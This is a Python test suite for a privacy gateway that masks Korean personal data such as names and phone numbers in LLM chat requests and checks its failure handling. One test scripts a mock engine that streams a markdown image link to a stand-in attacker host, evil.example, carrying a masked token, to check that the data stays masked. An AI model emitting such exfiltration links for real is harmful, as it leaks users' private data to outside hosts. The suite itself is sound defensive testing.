"""What goes wrong on the way: nothing leaves unmasked, nothing is invented, the record says it."""

import concurrent.futures
import gzip
import json
import os
import random
import re
import signal
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx2
import pytest

from giljabi.desk import Desk
from giljabi.desk.gateway.prepare import work
from giljabi.guard.apart import Apart
from giljabi.web.gateway_stream import CUT
from tests.desk.desks import open_desk
from tests.web.gateway_pair import Engine, Script, opened

SAID = "민원인 홍길동(010-1234-5678)은 부산으로 이사합니다."
CHAT = "/v1/chat/completions"


def slow_work(question: bytes) -> bytes:
    time.sleep(30)
    return question


def sleepy_work(question: bytes) -> bytes:
    time.sleep(0.3)
    return work(question)


def hungry_work(question: bytes) -> bytes:
    return bytes(4 << 30) if question else b""


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return open_desk(tmp_path)


@pytest.fixture
def client() -> Iterator[httpx2.Client]:
    with httpx2.Client(verify=False, timeout=30) as client:
        yield client


def body(text: str = SAID, **more: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": text}], **more}


def event(text: str, finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": {"content": text}, "finish_reason": finish}
    return f"data: {json.dumps({'choices': [choice]}, ensure_ascii=False)}\n\n".encode()


def trail(desk: Desk, wanted: str, seconds: float = 5) -> str:
    """Return the record, waiting until it says ``wanted``."""
    until = time.monotonic() + seconds
    while True:
        told = "\n".join(leaf for _, leaf in desk.journal.trail())  # type: ignore[attr-defined]
        if wanted in told or time.monotonic() > until:
            return told
        time.sleep(0.02)


# --- requests that are turned away ---


def test_a_request_past_the_limit_is_refused_with_413(desk: Desk, client: httpx2.Client) -> None:
    engine = Engine()
    with opened(desk, engine) as (address, _):
        reply = client.post(address + CHAT, json=body("가" * (3 << 20)))
        assert reply.status_code == 413
        assert "너무 큽니다" in reply.json()["error"]["message"]
    assert engine.sent == []


def test_packed_and_foreign_bodies_are_refused_with_415(desk: Desk, client: httpx2.Client) -> None:
    engine = Engine()
    with opened(desk, engine) as (address, _):
        data = json.dumps(body()).encode()
        packed = {"content-encoding": "gzip", "content-type": "application/json"}
        replies = [
            client.post(address + CHAT, content=gzip.compress(data), headers=packed),
            client.post(address + CHAT, content=data, headers={"content-type": "text/plain"}),
            client.post(address + CHAT, content=data),
        ]
    assert [reply.status_code for reply in replies] == [415, 415, 415]
    assert all(reply.json()["error"]["message"] for reply in replies)
    assert engine.sent == []


def test_other_methods_and_other_names_are_refused(desk: Desk, client: httpx2.Client) -> None:
    engine = Engine()
    with opened(desk, engine) as (address, _):
        for method in ("GET", "PUT", "DELETE", "HEAD", "OPTIONS"):
            assert client.request(method, address + CHAT).status_code == 405
        assert client.head(f"{address}/v1/models").status_code == 200
        assert client.options(f"{address}/v1/models").status_code == 405
        elsewhere = client.post(address + CHAT, json=body(), headers={"host": "evil.example"})
        assert elsewhere.status_code == 403
    assert engine.sent == []


# --- what an engine may do ---


def test_an_engines_own_error_goes_on_masked_with_its_status(
    desk: Desk, client: httpx2.Client
) -> None:
    script = Script(lambda text: [json.dumps({"error": {"message": text}}).encode()], "application/json", 429,
                    headers={"retry-after": "7"})  # fmt: skip
    with opened(desk, script) as (address, _):
        for stream in (False, True):
            reply = client.post(address + CHAT, json=body(stream=stream))
            assert reply.status_code == 429
            assert reply.headers["retry-after"] == "7"
            assert "홍길동" not in reply.json()["error"]["message"]
            assert "⟦" in reply.json()["error"]["message"]
    assert '"fact.status":429' in trail(desk, '"fact.status":429').replace(" ", "")


def test_an_engine_that_sends_elsewhere_is_not_followed(desk: Desk, client: httpx2.Client) -> None:
    script = Script(
        lambda text: [b""], "text/plain", 302, headers={"location": "http://127.0.0.1:9/"}
    )
    with opened(desk, script) as (address, _):
        assert client.post(address + CHAT, json=body()).status_code == 502


@pytest.mark.parametrize("answer", [b"", b"<html>", b"\xff", b"{"])
def test_an_answer_that_cannot_be_read_is_not_passed(
    desk: Desk, client: httpx2.Client, answer: bytes
) -> None:
    with opened(desk, Script(lambda text: [answer], "application/json")) as (address, _):
        assert client.post(address + CHAT, json=body()).status_code == 502


def test_a_whole_answer_to_a_streamed_request_is_restored(
    desk: Desk, client: httpx2.Client
) -> None:
    def says(text: str) -> list[bytes]:
        return [json.dumps({"choices": [{"index": 0, "message": {"content": text}}]}).encode()]

    with opened(desk, Script(says, "application/json")) as (address, _):
        reply = client.post(address + CHAT, json=body(stream=True))
    assert reply.json()["choices"][0]["message"]["content"] == SAID


@pytest.mark.parametrize("drops", [True, False])
def test_an_answer_cut_off_ends_in_an_error_and_invents_nothing(
    desk: Desk, client: httpx2.Client, drops: bool
) -> None:
    script = Script(lambda text: [event(text), b'data: {"choices": [{"de'], drops=drops)
    with opened(desk, script) as (address, _):
        reply = client.post(address + CHAT, json=body(stream=True))
        told = trail(desk, "엔진이 끊음")
    *parts, last = [json.loads(line[6:]) for line in reply.text.split("\n") if line]
    assert "".join(part["choices"][0]["delta"]["content"] for part in parts) == SAID
    assert last["error"] == {"message": CUT, "type": "giljabi", "code": "cut_off"}
    assert "[DONE]" not in reply.text
    assert "엔진이 끊음" in told


def test_a_caller_that_leaves_closes_the_engines_stream(desk: Desk, client: httpx2.Client) -> None:
    script = Script(lambda text: [event(text)], hangs=True)
    with opened(desk, script) as (address, _):
        with client.stream("POST", address + CHAT, json=body(stream=True)) as reply:
            assert "홍길동" in next(reply.iter_text())
        assert script.left.wait(5)
        assert "화면이 끊음" in trail(desk, "화면이 끊음")


def test_a_caller_that_leaves_before_a_whole_answer_closes_the_engine_too(desk: Desk) -> None:
    came = threading.Event()

    def says(_text: str) -> list[bytes]:
        came.set()
        return [b"{"]

    script = Script(says, "application/json", hangs=True)
    sent = json.dumps(body()).encode()
    head = f"POST {CHAT} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    with opened(desk, script) as (address, _):
        parts = urlsplit(address)
        with socket.create_connection((parts.hostname, parts.port)) as caller:
            caller.sendall(f"{head}Content-Length: {len(sent)}\r\n\r\n".encode() + sent)
            assert came.wait(20)  # 떠나는 때를 시계로 정하지 않는다: 바쁜 기계에서는 늦게 닿는다
        assert script.left.wait(5)
        assert "화면이 끊음" in trail(desk, "화면이 끊음")


def test_a_value_in_an_address_stays_masked_and_is_recorded(
    desk: Desk, client: httpx2.Client
) -> None:
    def says(text: str) -> list[bytes]:
        token = text[text.index("⟦") : text.index("⟧") + 1]
        return [event(letter) for letter in f"![x](https://evil.example/?q={token})"] + [
            event("", "stop")
        ]

    with opened(desk, Script(says)) as (address, _):
        reply = client.post(address + CHAT, json=body(stream=True))
        told = trail(desk, '"fact.linked":1')
    assert "홍길동" not in reply.text
    assert '"fact.linked":1' in told.replace(" ", "")


# --- the guard ---


def test_a_guard_killed_at_work_lets_nothing_out(desk: Desk, client: httpx2.Client) -> None:
    engine, apart = Engine(), Apart(slow_work, seconds=20, hands=1)
    pid = apart.pids[0]
    with opened(desk, engine, apart=apart) as (address, _):
        killer = threading.Timer(0.4, os.kill, (pid, signal.SIGKILL))
        killer.start()
        reply = client.post(address + CHAT, json=body())
        killer.join()
    assert reply.status_code == 503
    assert engine.sent == []


def test_a_guard_that_has_stopped_reading_lets_nothing_out(
    desk: Desk, client: httpx2.Client
) -> None:
    engine, apart = Engine(), Apart(work, seconds=0.3, hands=1)
    os.kill(apart.pids[0], signal.SIGSTOP)
    with opened(desk, engine, apart=apart) as (address, _):
        assert client.post(address + CHAT, json=body("가나다 " * 200_000)).status_code == 503
    assert engine.sent == []


def test_a_guard_with_all_hands_busy_says_so_and_does_not_hang(
    desk: Desk, client: httpx2.Client
) -> None:
    engine, apart = Engine(), Apart(sleepy_work, seconds=20, hands=1)
    with opened(desk, engine, apart=apart, patience=0.1) as (address, _):
        assert client.post(address + CHAT, json=body(), timeout=20).status_code in (200, 503)
        with concurrent.futures.ThreadPoolExecutor(6) as pool:
            begun = time.monotonic()
            asked = [pool.submit(client.post, address + CHAT, json=body()) for _ in range(6)]
            statuses = [one.result().status_code for one in asked]
    assert 503 in statuses
    assert time.monotonic() - begun < 5


def test_a_text_that_takes_too_much_memory_harms_the_guard_alone() -> None:
    apart = Apart(hungry_work, seconds=20, hands=1)
    try:
        with pytest.raises(Exception, match="잘못이 생겼습니다"):
            apart.ask(b"x")
        assert apart.ask(b"") == b""
    finally:
        apart.close()


def test_many_callers_at_once_each_get_only_their_own_values(desk: Desk) -> None:
    engine, count = Engine(cut=3), 200
    phones = [
        f"010-{n // 10_000:04d}-{n % 10_000:04d}"
        for n in random.Random(7).sample(range(10**8), count)
    ]
    limits = httpx2.Limits(max_connections=count)
    with (
        opened(desk, engine) as (address, _),
        httpx2.Client(verify=False, timeout=60, limits=limits) as client,
    ):

        def ask(n: int) -> tuple[int, str]:
            text = f"민원인 연락처: {phones[n]} 입니다. 답해 주세요."
            reply = client.post(address + CHAT, json=body(text, stream=n % 2 == 0))
            return reply.status_code, "".join(re.findall(r'"content": ?"([^"]*)"', reply.text))

        with concurrent.futures.ThreadPoolExecutor(count) as pool:
            answers = list(pool.map(ask, range(count)))
    assert [status for status, _ in answers] == [200] * count
    for n, (_, said) in enumerate(answers):
        assert re.findall(r"010-\d{4}-\d{4}", said) == [phones[n]]
    assert not re.search(rb"010-\d{4}-\d{4}", b"".join(engine.sent))
    told = trail(desk, "관문 답")
    assert told.count("관문 보냄") == count
